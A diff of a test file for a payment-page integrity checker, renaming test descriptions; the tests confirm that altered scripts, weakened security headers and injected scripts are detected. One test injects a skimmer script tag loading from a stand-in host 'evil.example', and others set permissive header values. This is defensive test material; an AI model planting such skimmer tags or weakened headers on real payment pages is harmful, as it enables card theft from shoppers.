@@ -40,13 +40,13 @@ async function asServed(
   return () => checkPaymentPages({ sites, manifest: readPaymentManifest(siteDir), render, allowedOrigins })
 }
 
-describe('what is served where cards are paid with [T27]', () => {
-  it('is what was built', async () => {
+describe('what is served on the payment pages [T27]', () => {
+  it('matches the build', async () => {
     const check = await asServed(folders.served)
     expect(await check()).toEqual([])
   })
 
-  it('is told by its name when one byte of a script changes, also of a packed one', async () => {
+  it('is reported by name when one byte of a script changes, compressed or not', async () => {
     const check = await asServed(folders.asked)
     const file = join(folders.asked, SCRIPT)
     appendFileSync(file, ' ')
@@ -63,7 +63,7 @@ describe('what is served where cards are paid with [T27]', () => {
     ['content-security-policy', 'script-src *'],
     ['strict-transport-security', 'max-age=0'],
     ['permissions-policy', 'payment=*'],
-  ])('is told when %s is another', async (name, value) => {
+  ])('is reported when the header %s changes', async (name, value) => {
     const check = await asServed(folders.served, (reply, body) => {
       reply.header(name, value)
       return body
@@ -73,7 +73,7 @@ describe('what is served where cards are paid with [T27]', () => {
     expect(changes.filter(({ what }) => what === 'header').every(({ part }) => part === name)).toBe(true)
   })
 
-  it('is told when a script is added to the page, and when anything else of it changes', async () => {
+  it('is reported when a script is added to the page, or when anything else on the page changes', async () => {
     const withScript = await asServed(folders.served, (_reply, body) =>
       typeof body === 'string'
         ? body.replace('</head>', '<script src="https://evil.example/skim.js"></script></head>')
@@ -89,7 +89,7 @@ describe('what is served where cards are paid with [T27]', () => {
   })
 })
 
-describe('a site that is not as it was built [T27]', () => {
+describe('a site that differs from its build [T27]', () => {
   const parts = { journeyHosts: siteHosts, maintenance: undefined }
 
   it('is not served: a changed script is named', () => {
@@ -98,7 +98,7 @@ describe('a site that is not as it was built [T27]', () => {
     expect(() => site({ ...parts, siteDir: folders.started })).toThrow(`/${SCRIPT}`)
   })
 
-  it('is not served: nor one with a script that nobody built', () => {
+  it('is not served: an added script is named', () => {
     writeFileSync(join(folders.added, 'assets', 'extra.js'), 'alert(1)')
     expect(() => site({ ...parts, siteDir: folders.added })).toThrow('/assets/extra.js')
   })
